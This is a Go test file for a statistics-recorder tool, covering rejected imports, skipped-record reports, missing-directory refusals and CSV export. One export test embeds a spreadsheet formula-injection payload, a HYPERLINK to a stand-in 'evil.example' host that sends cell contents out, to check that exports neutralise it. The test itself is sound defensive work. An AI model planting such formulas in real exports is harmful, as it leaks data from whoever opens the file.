package history

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"stats-recorder/contract/blackbox"
)

// TestAnImportThatCountsNothingLeavesNoTrace gives files that hold no record, into
// a directory that is there, one that is not, and one with counts.
func TestAnImportThatCountsNothingLeavesNoTrace(t *testing.T) {
	t.Parallel()
	counted := t.TempDir()
	p := blackbox.StartProgram(t, counted, nil)
	p.Created(t, blackbox.RecordOf("RSA"))
	p.Terminate(t)
	for name, content := range map[string]string{
		"an object of something else": `{"x":1}`,
		"an answer without counts":    `[{"id":"RSA","events":{}}]`,
		"an answer without a name":    `[{"id":null,"events":{"show":1}}]`,
		"an answer of another kind":   `[{"start":"2026-01-01","events":{"show":1}}]`,
		"numbers":                     `[1,2,3]`,
	} {
		file := savedAs(t, "file.json", []byte(content))
		missing := filepath.Join(t.TempDir(), "missing")
		if got := importOf(t, missing, file); got.Code != 1 {
			t.Errorf("%s: exit code %d, want 1:\n%s%s", name, got.Code, got.Stdout, got.Stderr)
		}
		for _, directory := range []string{t.TempDir(), counted} {
			before := countsOf(t, directory)
			got := importOf(t, directory, file)
			if got.Code != 1 || !strings.Contains(got.Stderr, "nothing was imported") {
				t.Errorf("%s: exit code %d, want 1 and why:\n%s%s", name, got.Code, got.Stdout, got.Stderr)
			}
			if again := importOf(t, directory, file); strings.Contains(again.Stderr, "imported before") {
				t.Errorf("%s: %s", name, again.Stderr)
			}
			if after := countsOf(t, directory); fmt.Sprint(before) != fmt.Sprint(after) {
				t.Errorf("%s: the files were %v and are %v", name, before, after)
			}
		}
		if _, err := os.Stat(missing); err == nil {
			t.Errorf("%s: the import has made %q and left it", name, missing)
		}
	}
	blackbox.StartProgram(t, counted, nil).ExpectTotal(t, "RSA", 1)
}

func TestTheTotalsOfAnImportComeLastAndTheWholeListGoesToAFile(t *testing.T) {
	t.Parallel()
	var documents strings.Builder
	for i := range 379 {
		fmt.Fprintf(&documents, `{"_id":{"$oid":"%024x"},"benefit_id":"RSA","page_total":2,"benefit_index":%d.5,"event_type":"show"}`+"\n", i, i)
	}
	documents.WriteString(blackbox.RecordOf("RSA") + "\n")
	file, list := savedAs(t, "records.json", []byte(documents.String())), filepath.Join(t.TempDir(), "skipped.jsonl")
	got := importOf(t, t.TempDir(), "--skipped", list, file)
	lines := strings.Split(strings.TrimSpace(got.Stdout), "\n")
	if got.Code != 0 || !strings.HasPrefix(lines[len(lines)-2], "read 380 documents = counted 1 + skipped 379") {
		t.Errorf("exit code %d, want 0 and the totals before the last line:\n%s%s", got.Code, got.Stdout, got.Stderr)
	}
	if !strings.Contains(got.Stdout, "and 279 more") || strings.Count(got.Stdout, "benefit_index is not an integer: ") != 100 {
		t.Errorf("want a hundred examples and 279 more:\n%s", got.Stdout)
	}
	content, err := os.ReadFile(list)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for line := range strings.Lines(string(content)) {
		var skipped struct{ Path, ID, Reason, Have string }
		if err := json.Unmarshal([]byte(line), &skipped); err != nil || skipped.Reason != "benefit_index is not an integer" || skipped.Path != file {
			t.Fatalf("%v in %q", err, line)
		}
		seen[skipped.ID] = true
	}
	if len(seen) != 379 {
		t.Errorf("the list has %d documents, want 379", len(seen))
	}
}

// TestAnExportOpenedInASpreadsheetHoldsNoFormula has names that strangers chose.
func TestAnExportOpenedInASpreadsheetHoldsNoFormula(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("http://evil.example/?"&A2,"clique")`
	directory := t.TempDir()
	p := blackbox.StartProgram(t, directory, nil)
	p.Created(t, blackbox.Array(blackbox.RecordOf(formula), blackbox.RecordOf("Livret d’épargne populaire")))
	p.Terminate(t)
	export := func(arguments ...string) string {
		got := blackbox.Run(t, []string{"DATA_DIR=" + directory}, append([]string{"export"}, arguments...)...)
		if got.Code != 0 {
			t.Fatalf("export %q ends with %d: %s", arguments, got.Code, got.Stderr)
		}
		return got.Stdout
	}
	quoted := strings.ReplaceAll(formula, `"`, `""`)
	if safe := export(); !strings.HasPrefix(safe, "\xef\xbb\xbfday,") || !strings.Contains(safe, `"'`+quoted+`"`) {
		t.Errorf("the export for people is\n%s", safe)
	}
	if raw := export("--raw"); !strings.HasPrefix(raw, "day,") || !strings.Contains(raw, `"`+quoted+`"`) {
		t.Errorf("the raw export is\n%s", raw)
	}
	if lines := export("--format", "jsonl"); !strings.Contains(lines, strings.ReplaceAll(formula, `"`, `\"`)) {
		t.Errorf("the lines are\n%s", lines)
	}
}

func TestACommandThatReadsSaysThatThereIsNoDirectory(t *testing.T) {
	t.Parallel()
	missing := filepath.Join(t.TempDir(), "missing")
	for _, command := range []string{"verify", "export"} {
		blackbox.Run(t, nil, "--data-dir", missing, command).ExpectRefusal(t, missing, "no such data directory", "DATA_DIR")
		if _, err := os.Stat(missing); err == nil {
			t.Errorf("%s has made the directory that it was to read", command)
		}
		// A relative path is told as the absolute one.
		blackbox.Run(t, []string{"DATA_DIR=nowhere"}, command).ExpectRefusal(t, string(filepath.Separator)+"nowhere")
	}
}
